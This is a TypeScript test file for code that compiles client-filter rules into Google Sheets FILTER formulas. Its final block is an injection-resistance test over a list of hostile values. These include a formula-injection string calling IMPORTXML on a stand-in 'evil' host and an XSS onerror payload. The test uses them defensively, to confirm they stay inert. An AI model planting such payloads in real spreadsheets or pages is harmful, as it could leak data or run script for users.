import { describe, expect, it } from 'vitest';
import { evaluateFormula } from '../../../emulator/formula/evaluate';
import { parseRule } from '../../../src/core/rules/parser';
import { ruleToCountFormula, ruleToFormula, stringLiteral, type FormulaLayout } from '../../../src/core/rules/to-formula';
import { arrayContext } from '../../emulator/formula/array-context';

const HEADER = ['ID', 'Name', 'Stage', 'Joined'];
const LAYOUT: FormulaLayout = { sheet: 'Clients', columns: { ID: 'A', Name: 'B', Stage: 'C', Joined: 'D' }, firstDataRow: 2 };
const TODAY = new Date(Date.UTC(2025, 5, 15));

function rule(text: string) {
  const r = parseRule(text, HEADER);
  if (!r.ok) throw new Error(r.error.message);
  return r.rule;
}
function run(formula: string, rows: unknown[][]): unknown[][] {
  return evaluateFormula(formula, arrayContext({ Clients: [HEADER, ...rows] }, TODAY));
}

describe('ruleToFormula', () => {
  it('emits one FILTER over the client rows, guarded by a non-blank ID', () => {
    expect(ruleToFormula(rule('Stage = "Hot"'), LAYOUT)).toBe(
      '=ARRAYFORMULA(IFERROR(FILTER(Clients!A2:D,(LEN(TRIM(Clients!A2:A&""))>0)*IFERROR(LOWER(TRIM(Clients!C2:C&""))="hot",FALSE)),""))',
    );
  });

  it('shows chosen columns in their order, neighbours as one range, and Sheets returns exactly those cells', () => {
    const f = ruleToFormula(rule('Stage = "Hot"'), { ...LAYOUT, output: { columns: ['A', 'D', 'B', 'C'] } });
    expect(f).toMatch(/^=ARRAYFORMULA\(IFERROR\(FILTER\(\{Clients!A2:A,Clients!D2:D,Clients!B2:C\},/);
    const rows = [
      ['C1', 'Anna', 'Hot', '2025-01-02'],
      ['C2', 'Boris', 'Cold', '2025-01-03'],
      ['C3', '=1+1', 'hot', ''],
    ];
    expect(run(f, rows)).toEqual([
      ['C1', '2025-01-02', 'Anna', 'Hot'],
      ['C3', '', '=1+1', 'hot'],
    ]);
    expect(ruleToFormula(rule('Stage = "Hot"'), { ...LAYOUT, output: { columns: ['B', 'C'] } })).toMatch(/FILTER\(Clients!B2:C,/);
  });

  it('combines with * for and, + … >0 for or, 1− for not', () => {
    const f = ruleToFormula(rule('not (Stage = "a" or Name = "b") and Stage is empty'), LAYOUT);
    expect(f).toContain(
      '((1-((IFERROR(LOWER(TRIM(Clients!C2:C&""))="a",FALSE)+IFERROR(LOWER(TRIM(Clients!B2:B&""))="b",FALSE))>0))*IFERROR(LEN(TRIM(Clients!C2:C&""))=0,FALSE))',
    );
  });

  it('uses TODAY() and EDATE so the tab stays current, and DATE() for literal dates', () => {
    expect(ruleToFormula(rule('Joined within last 30 days'), LAYOUT)).toContain('<=TODAY()-(TODAY()-30)');
    expect(ruleToFormula(rule('Joined more than 1 year ago'), LAYOUT)).toContain('<EDATE(TODAY(),-12)');
    expect(ruleToFormula(rule('Joined before 2025-01-31'), LAYOUT)).toContain('<DATE(2025,1,31)');
  });

  it('quotes sheet names that need it, bounds rows, picks output columns', () => {
    const layout = { ...LAYOUT, sheet: "Client's base", lastRow: 500, output: { first: 'a', last: 'z' } };
    const f = ruleToFormula(rule('Stage = "x"'), layout);
    expect(f).toContain("FILTER('Client''s base'!A2:Z500,(LEN(TRIM('Client''s base'!A2:A500&\"\"))>0)");
    expect(ruleToFormula(rule('Stage = "x"'), { ...LAYOUT, sheet: 'A1' })).toContain("'A1'!A2:D");
    expect(ruleToFormula(rule('Stage = "x"'), { ...LAYOUT, sheet: 'Клиенты' })).toContain("'Клиенты'!C2:C");
  });

  it('refuses a layout it cannot honour', () => {
    expect(() => ruleToFormula(rule('Stage = "x"'), { ...LAYOUT, columns: { ID: 'A' } })).toThrow(/no column for the field "Stage"/);
    expect(() => ruleToFormula(rule('Spent > 1'), LAYOUT)).toThrow(/no Purchases columns/);
    expect(() => ruleToFormula(rule('Stage = "x"'), { ...LAYOUT, columns: { ...LAYOUT.columns, Stage: 'C)' } })).toThrow(/not a column letter/);
    expect(() => ruleToFormula(rule('Stage = "x"'), { ...LAYOUT, firstDataRow: 0 })).toThrow(/firstDataRow/);
    expect(() => ruleToFormula(rule('Stage = "x"'), { ...LAYOUT, sheet: '' })).toThrow(/sheet name/);
  });

  it('returns the matching rows, or one empty cell when none match', () => {
    const rows = [
      ['c1', 'Ann', 'Hot', ''],
      ['c2', 'Bob', 'Cold', ''],
      ['', 'Ghost', 'Hot', ''],
    ];
    expect(run(ruleToFormula(rule('Stage = "HOT"'), LAYOUT), rows)).toEqual([['c1', 'Ann', 'Hot', '']]);
    expect(run(ruleToFormula(rule('Stage = "VIP"'), LAYOUT), rows)).toEqual([['']]);
    expect(run(ruleToCountFormula(rule('Stage != "VIP"'), LAYOUT), rows)).toEqual([[2]]);
    expect(run(ruleToCountFormula(rule('Stage = "VIP"'), LAYOUT), rows)).toEqual([[0]]);
  });
});

describe('values never break out into formula syntax', () => {
  const HOSTILE = [
    'a"b',
    '")',
    '"),IMPORTXML("http://evil","//a"),("',
    'x;y',
    'a,b',
    'a&b',
    '=1+1',
    '+1',
    '-1',
    '@x',
    'line\nbreak',
    'tab\there',
    'cr\rhere',
    '<img src=x onerror=alert(1)>',
    "it's",
    '\\"',
    '{1;2}',
    'A1:B2',
    '😀',
    '.*',
    '(a|b)',
    '[x]',
    '^$',
    '~*?',
    '#N/A',
    'x'.repeat(2_000),
  ];
  // Had a value escaped the string literal, the emulator would answer #ERROR! or #NAME? instead of these rows.
  it.each(HOSTILE)('%j is only a value for =, contains, starts with and in', (value) => {
    const quoted = `"${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
    const rows = [
      ['c1', value, 'x', ''],
      ['c2', `pre ${value} post`, 'x', ''],
      ['c3', 'other', 'x', ''],
    ];
    const ids = (text: string) => run(ruleToFormula(rule(text), LAYOUT), rows).map((r) => r[0]);
    const trimmed = value.trim() === '' || value !== value.trim();
    expect(ids(`Name = ${quoted}`)).toEqual(['c1']);
    expect(ids(`Name contains ${quoted}`)).toEqual(trimmed ? expect.arrayContaining(['c1']) : ['c1', 'c2']);
    expect(ids(`Name starts with ${quoted}`)).toEqual(['c1']);
    expect(ids(`Name in (${quoted}, "other")`)).toEqual(['c1', 'c3']);
  });

  it('string literals double quotes and spell line breaks with CHAR()', () => {
    expect(stringLiteral('say "hi"')).toBe('"say ""hi"""');
    expect(stringLiteral('a\nb')).toBe('("a"&CHAR(10)&"b")');
    expect(stringLiteral('\n')).toBe('CHAR(10)');
    expect(stringLiteral('')).toBe('""');
  });
});
